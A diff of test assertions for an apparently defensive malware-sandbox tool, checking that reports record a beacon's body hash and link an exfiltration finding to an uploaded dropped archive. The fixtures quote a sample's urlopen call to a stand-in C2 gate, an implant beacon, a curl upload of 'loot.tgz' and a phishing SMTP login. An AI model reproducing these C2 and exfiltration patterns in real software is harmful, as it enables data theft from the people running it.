@@ -179,7 +179,7 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
     assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output])], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output])]);
     assert.match(html, /Connections caught in the sandbox \(9\)[\s\S]*GET \/gate\.php\?id=1/);
-    assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
+    assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1 · body 4 bytes, sha256 [0-9a-f]{64}: id=7<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
     assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO [^<]* · logged in as logs@mail\.example\.test \(AUTH PLAIN, password Hunter2!\)<\/span><div class="muted small">STARTTLS: decrypted/);
     assert.match(html, /server name checked\.example\.test<\/span><div class="muted small">refused the sandbox's certificate: nothing decrypted/);
   } finally {
@@ -483,7 +483,11 @@ test('the CLI prints the verdict line and writes report.json, report.html and th
     const upload = report.sessions?.find((c) => c.domain === 'cdn-update.example.test');
     assert.deepEqual(upload && [upload.port, upload.protocol, upload.sni, upload.http?.method, upload.http?.path, upload.http?.host, upload.decrypted !== undefined],
       [443, 'tls', 'cdn-update.example.test', 'POST', '/panel/gate.php?id=devbox', 'cdn-update.example.test', true], JSON.stringify(report.sessions));
-    assert.match(report.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /uri=\/panel\/gate\.php\?id=devbox .*protocol=tls .*process=curl\)$/);
+    assert.match(report.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /uri=\/panel\/gate\.php\?id=devbox .*protocol=tls body_bytes=\d+ body_sha256=[0-9a-f]{64} .*process=curl\)$/);
+    // what was uploaded is the archive the dropper made: the body's SHA-256 is the dropped file's
+    const archive = report.dropped.find((d) => d.path === '/tmp/.cache/loot.tgz');
+    assert.ok(archive?.sha256, JSON.stringify(report.dropped));
+    assert.deepEqual(upload?.http?.body && [upload.http.body.bytes, upload.http.body.sha256, upload.http.body.incomplete], [archive.size, archive.sha256, undefined]);
   } finally {
     t.cleanup();
   }
